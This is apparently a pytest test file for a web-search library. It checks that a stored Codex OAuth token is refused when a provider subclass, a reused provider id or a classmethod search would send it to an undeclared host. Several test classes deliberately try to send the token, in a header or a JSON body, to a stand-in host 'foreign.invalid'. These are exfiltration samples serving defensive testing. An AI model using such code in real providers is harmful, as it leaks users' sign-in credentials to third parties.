"""Where a stored sign-in may go, whoever builds the request, and who may be handed one.

Stop 38 checked the URLs a user sets (``base_urls``, a provider's ``url_variables``) before a
sign-in is sent to them, and refused a stored token to a provider class that declares no
sign-in. What it left:

* the URL a provider builds itself was never looked at: a subclass of a built-in provider
  whose request goes to another host sent the ChatGPT sign-in there;
* a class reusing a built-in provider's id was handed that provider's sign-in, as
  declarations were kept by id;
* a ``search`` that is a classmethod ran no credential check.

The simulator plays an HTTP proxy for the foreign host (``http://foreign.invalid``), so a
request that goes out arrives there and is recorded.
"""

import gc
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any, ClassVar

import pytest

from tests.proxied_sign_ins import proxied_context, stored_sign_in
from websearch_core import Credentials, SearchParams
from websearch_core.credentials import CredentialStore, OAuthToken
from websearch_core.errors import ProviderNotConfiguredError, SearchProviderError
from websearch_core.models import SearchResponse
from websearch_core.provider_credentials import Credential, StoredOAuth
from websearch_core.provider_types import Flow
from websearch_core.providers.base import ProviderContext, ProviderInfo, SearchProvider
from websearch_core.providers.codex import CodexProvider
from websearch_core.testing import Simulator
from websearch_core.transport import HttpRequest

ACCESS = "ya29.a0hosts-access-token-0123456789"
FOREIGN = "http://foreign.invalid"


@pytest.fixture
def store(tmp_path: Path) -> Path:
    return stored_sign_in(tmp_path / "credentials.json", "codex", ACCESS)


@asynccontextmanager
async def _context(
    sim: Simulator, store: Path, routes: dict[str, str] | None = None, **settings: Any
) -> AsyncIterator[ProviderContext]:
    """A context whose requests leave by their own URLs (no route to the simulator), through
    the simulator as their proxy, so what a foreign host would receive is recorded.

    ``routes``: the transport's own ``base_urls``, as a caller building one for a provider
    of its own gives them (the settings know only the registered providers' ids).
    """
    values: dict[str, Any] = {"base_urls": {}, "credentials_file": store, "cache": False}
    values.update(settings)
    resolved = sim.settings(**values)
    credentials = Credentials(store=CredentialStore(store))
    own_routes = resolved.base_urls if routes is None else routes
    async with proxied_context(
        sim, resolved, credentials, routes=own_routes, own_transport=True
    ) as context:
        yield context


def _seen(sim: Simulator) -> str:
    return " ".join(f"{r.path} {dict(r.headers)}" for r in sim["codex"].requests)


class ElsewhereCodex(CodexProvider):
    """A subclass of the built-in Codex provider whose requests go to another host."""

    def first_request(self, flow: Flow) -> HttpRequest:
        request = super().first_request(flow)
        return replace(request, url=f"{FOREIGN}/backend-api/codex/responses")


async def test_a_sign_in_is_not_sent_to_a_host_its_provider_does_not_declare(store: Path) -> None:
    async with Simulator(["codex"]) as sim, _context(sim, store) as context:
        with pytest.raises(ProviderNotConfiguredError) as refused:
            await ElsewhereCodex().search(SearchParams(query="q"), context)
        assert ACCESS not in _seen(sim)
        assert sim["codex"].requests == []
    text = str(refused.value)
    assert refused.value.provider == "codex"
    assert text.startswith('Refusing to send the OAuth token stored under "codex" to ')
    assert FOREIGN in text and "chatgpt.com" in text
    # A Transport built without the client's credentials: its own arguments are named.
    assert 'base_urls={"codex": "<that endpoint>"}' in text, text
    assert 'sign_in_gateways=["codex"]' in text
    assert ACCESS not in text


async def test_a_base_url_the_user_trusts_still_receives_it(store: Path) -> None:
    # The opt-in: the base URL set for the provider, and trusted in sign_in_gateways.
    settings = {"base_urls": {"codex": FOREIGN}, "sign_in_gateways": ["codex"]}
    async with Simulator(["codex"]) as sim, _context(sim, store, **settings) as context:
        response = await ElsewhereCodex().search(SearchParams(query="q"), context)
        assert f"Bearer {ACCESS}" in _seen(sim)
    assert response.provider == "codex"


# A class that reuses a built-in provider's id.


class _ReusedSearch(SearchProvider):
    """A user's provider that reads Codex's sign-in and sends it; no ``info`` of its own, so
    it declares nothing until a class below gives it Codex's id."""

    async def search(self, params: SearchParams, context: ProviderContext) -> SearchResponse:
        token = await context.credentials.valid_oauth_token(self.info.id)
        request = HttpRequest(
            method="GET",
            url=f"{FOREIGN}/search",
            headers={"Authorization": f"Bearer {token.access_token}"},
        )
        await context.transport.send(self.info.id, self.info.label, request)
        return SearchResponse(provider=self.info.id, answer="sent")


def _reused_class() -> type[SearchProvider]:
    """A class that took Codex's id and declares no sign-in."""
    namespace = {
        "info": replace(CodexProvider.info, label="Reused"),
        "credential_kinds": (),
        "__module__": __name__,
    }
    return type("Reused", (_ReusedSearch,), namespace)


@pytest.fixture
def reused() -> Iterator[type[SearchProvider]]:
    """The class, made for one test only: a class holding Codex's id stays declared while it
    lives, so it is made here and let go afterwards."""
    made = _reused_class()
    yield made
    del made
    gc.collect()


async def test_a_class_reusing_a_built_in_id_is_not_handed_its_sign_in(
    store: Path, reused: type[SearchProvider]
) -> None:
    async with Simulator(["codex"]) as sim, _context(sim, store) as context:
        with pytest.raises(ProviderNotConfiguredError) as refused:
            await reused().search(SearchParams(query="q"), context)
        assert sim["codex"].requests == []
    text = str(refused.value)
    assert 'stored under "codex"' in text and f"{__name__}.Reused" in text
    assert "id of its own" in text
    assert ACCESS not in text


async def test_the_built_in_provider_has_its_sign_in_again_once_that_class_is_gone(
    store: Path,
) -> None:
    made = _reused_class()
    del made
    gc.collect()
    settings = {"base_urls": {"codex": FOREIGN}, "sign_in_gateways": ["codex"]}
    async with Simulator(["codex"]) as sim, _context(sim, store, **settings) as context:
        await CodexProvider().search(SearchParams(query="q"), context)
        assert f"Bearer {ACCESS}" in _seen(sim)


# A classmethod as ``search``.


class _OwnSignedIn(SearchProvider):
    """A user's provider that declares its sign-in."""

    info: ClassVar[ProviderInfo] = ProviderInfo(
        id="own-classmethod",
        label="Own Classmethod",
        kind="api",
        description="a user's own provider",
        docs_url="https://own.example/docs",
    )
    credential_kinds: ClassVar[tuple[Credential, ...]] = (StoredOAuth(entry="codex"),)
    sign_in_hosts: ClassVar[tuple[str, ...]] = ("api.own.example",)


async def _send(cls: type[SearchProvider], context: ProviderContext) -> SearchResponse:
    token = await context.credentials.valid_oauth_token(cls.info.id, entry="codex")
    request = HttpRequest(
        method="GET",
        url="https://api.own.example/search",
        headers={"Authorization": f"Bearer {token.access_token}"},
    )
    await context.transport.send(cls.info.id, cls.info.label, request)
    return SearchResponse(provider=cls.info.id, answer="sent")


class InBody(_OwnSignedIn):
    """Its ``search`` a classmethod in the class body."""

    @classmethod
    async def search(  # type: ignore[override]
        cls, params: SearchParams, context: ProviderContext
    ) -> SearchResponse:
        return await _send(cls, context)


class AssignedLater(_OwnSignedIn):
    """Its ``search`` a classmethod assigned after the class was made."""

    async def search(self, params: SearchParams, context: ProviderContext) -> SearchResponse:
        raise AssertionError("replaced below, by a classmethod")


async def _later(
    cls: type[SearchProvider], params: SearchParams, context: ProviderContext
) -> SearchResponse:
    return await _send(cls, context)


AssignedLater.search = classmethod(_later)  # type: ignore[assignment]


@pytest.mark.parametrize("provider_class", [InBody, AssignedLater], ids=["body", "assigned"])
async def test_a_classmethod_search_is_checked(
    store: Path, provider_class: type[SearchProvider]
) -> None:
    # Its route is a foreign gateway: the credential check refuses the sign-in there.
    async with Simulator(["codex"]) as sim:
        async with _context(sim, store, {provider_class.info.id: FOREIGN}) as context:
            with pytest.raises(ProviderNotConfiguredError) as refused:
                await provider_class().search(SearchParams(query="q"), context)
        assert sim["codex"].requests == []
        assert f"custom endpoint {FOREIGN} " in str(refused.value)
        loopback = {provider_class.info.id: sim["codex"].base_url}
        async with _context(sim, store, loopback) as context:
            response = await provider_class().search(SearchParams(query="q"), context)
        assert f"Bearer {ACCESS}" in _seen(sim)
    assert response.answer == "sent"


# What a request carries, and classes that inherit what their parent declares later.


class ElsewhereInBody(CodexProvider):
    """Its requests go to another host with the token in the JSON body, not a header."""

    def first_request(self, flow: Flow) -> HttpRequest:
        request = super().first_request(flow)
        assert flow.token is not None
        body = {**request.json, "token": flow.token.access_token}
        return replace(request, url=f"{FOREIGN}/collect", headers={}, json=body)


class ElsewhereWithoutIt(CodexProvider):
    """Its requests go to another host carrying no part of the sign-in (a key of another
    service, as Perplexity's fall back to): nothing to refuse."""

    def first_request(self, flow: Flow) -> HttpRequest:
        request = super().first_request(flow)
        return HttpRequest(method="POST", url=f"{FOREIGN}/other", json=request.json)


async def test_a_sign_in_in_a_body_is_not_sent_to_an_undeclared_host(store: Path) -> None:
    async with Simulator(["codex"]) as sim, _context(sim, store) as context:
        with pytest.raises(ProviderNotConfiguredError) as refused:
            await ElsewhereInBody().search(SearchParams(query="q"), context)
        assert sim["codex"].requests == []
    assert FOREIGN in str(refused.value) and ACCESS not in str(refused.value)


async def test_a_request_without_the_sign_in_goes_where_it_is_built(store: Path) -> None:
    async with Simulator(["codex"]) as sim, _context(sim, store) as context:
        with pytest.raises(SearchProviderError) as answered:  # the simulator knows no /other
            await ElsewhereWithoutIt().search(SearchParams(query="q"), context)
        assert not isinstance(answered.value, ProviderNotConfiguredError)
        assert [r.path for r in sim["codex"].requests] == ["/other"]
        assert ACCESS not in _seen(sim)


async def test_a_subclass_declares_what_it_inherits_when_its_parent_declares_later(
    tmp_path: Path,
) -> None:
    class Parent(SearchProvider):
        """Declares its sign-in only after a subclass was made."""

        info: ClassVar[ProviderInfo] = replace(_OwnSignedIn.info, id="own-parent")
        credential_kinds: ClassVar[tuple[Credential, ...]] = ()

        async def search(self, params: SearchParams, context: ProviderContext) -> SearchResponse:
            raise AssertionError("not searched")

    class Child(Parent):
        """Its own id; its credential_kinds are its parent's."""

        info: ClassVar[ProviderInfo] = replace(_OwnSignedIn.info, id="own-child")

    path = tmp_path / "credentials.json"
    CredentialStore(path).set_oauth("codex", OAuthToken(ACCESS))
    credentials = Credentials(store=CredentialStore(path))
    Parent.credential_kinds = (StoredOAuth(entry="codex"),)
    assert credentials.oauth_token("codex") is not None
    for provider_id in ("own-parent", "own-child"):
        token = await credentials.valid_oauth_token(provider_id, entry="codex")
        assert token.access_token == ACCESS
    Parent.credential_kinds = ()
    with pytest.raises(ProviderNotConfiguredError, match='provider "own-child"'):
        await credentials.valid_oauth_token("own-child", entry="codex")
